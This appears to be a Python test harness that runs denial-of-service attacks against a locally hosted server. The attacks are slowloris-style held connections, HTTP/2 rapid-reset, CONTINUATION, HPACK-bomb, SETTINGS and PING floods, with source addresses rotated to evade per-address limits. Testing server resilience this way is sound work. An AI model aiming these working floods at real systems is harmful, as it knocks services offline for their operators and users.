"""Callers that mean harm: `hostile.py port kind count`. Says `ready` when as many connections as asked for are at it, and
goes on until its input ends. Slow kinds hold connections; floods send as fast as they can, and come again when they are
thrown out. Each five hundred have an address of their own, since one address alone is given no thousands."""

import asyncio
import itertools
import resource
import socket
import struct
import sys
import threading

PORT, KIND, COUNT = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
HOST = b"shop.test"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
AUTHORITY = b"\x41" + bytes([len(HOST)]) + HOST
GET = b"\x82\x86\x84" + AUTHORITY
GET_LARGE = b"\x82\x86\x04\x06/large" + AUTHORITY
HEAD = b"Host: " + HOST + b"\r\n"

# What each slow kind begins with, and what it sends from time to time.
SLOW = {
    "heads": (b"GET / HTTP/1.1\r\n" + HEAD + b"X-Slow: ", b"x"),
    "bodies": (b"POST /upload HTTP/1.1\r\n" + HEAD + b"Content-Length: 100000\r\n\r\n", b"x"),
    "readers": (b"GET /large HTTP/1.1\r\n" + HEAD + b"\r\n", b""),
    "windows": (PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0)) + frame(1, 5, 1, GET_LARGE), b""),
    "idle": (b"GET / HTTP/1.1\r\n" + HEAD + b"\r\n", b""),
    "idle2": (PREFACE + frame(1, 5, 1, GET), b""),
}


def source(number):
    return f"127.0.{1 + number // 500}.{1 + number % 250}"


def connect(number):
    connection = socket.socket()
    connection.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
    if KIND == "readers":
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.bind((source(number), 0))
    return connection


async def slow():
    loop = asyncio.get_running_loop()
    first, then = SLOW[KIND]
    held = []
    for number in range(COUNT):
        connection = connect(number)
        connection.setblocking(False)
        await loop.sock_connect(connection, ("127.0.0.1", PORT))
        await loop.sock_sendall(connection, first)
        if KIND.startswith("idle"):
            await asyncio.wait_for(loop.sock_recv(connection, 4096), 30)
        held.append(connection)
    print("ready", flush=True)
    ended = loop.run_in_executor(None, sys.stdin.read)
    while not ended.done():
        await asyncio.wait([ended], timeout=2)
        for connection in held if then else []:
            try:
                connection.send(then)
            except OSError:
                pass


def resets():
    for stream in itertools.count(1, 2):
        yield frame(1, 5, stream, GET) + frame(3, 0, stream, struct.pack(">I", 8))


def continuations():
    yield frame(1, 1, 1, GET)
    yield from itertools.repeat(frame(9, 0, 1, b"\x10\x01a\x7f\x81\x7f" + b"a" * 16384))


def bombs():
    # One long field goes into the table once, and is named by one byte each from then on.
    field = b"\x40\x01a\x7f\xa1\x1e" + b"a" * 4000
    yield frame(1, 5, 1, GET + field)
    for stream in itertools.count(3, 2):
        yield frame(1, 5, stream, GET + b"\xbe" * 16000)


FLOODS = {
    "resets": resets,
    "continuations": continuations,
    "bombs": bombs,
    "settings": lambda: itertools.repeat(frame(4, 0, 0, struct.pack(">HI", 3, 100))),
    "pings": lambda: itertools.repeat(frame(6, 0, 0, b"01234567")),
}
sent = thrown_out = 0


def flood(number):
    global sent, thrown_out
    while True:
        connection = connect(number)
        connection.settimeout(2)
        try:
            connection.connect(("127.0.0.1", PORT))
            connection.sendall(PREFACE)
            frames = FLOODS[KIND]()
            while True:
                piece = b"".join(itertools.islice(frames, 64))
                connection.sendall(piece)
                sent += 64
                # Every other one never reads what it is answered.
                if number % 2:
                    connection.setblocking(False)
                    try:
                        while connection.recv(65536):
                            pass
                    except BlockingIOError:
                        pass
                    connection.settimeout(2)
        except OSError:
            thrown_out += 1
        finally:
            connection.close()


resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
if KIND in SLOW:
    asyncio.run(slow())
else:
    for number in range(COUNT):
        threading.Thread(target=flood, args=(number,), daemon=True).start()
    print("ready", flush=True)
    sys.stdin.read()
    print(f"{sent} frames sent, thrown out {thrown_out} times", flush=True)
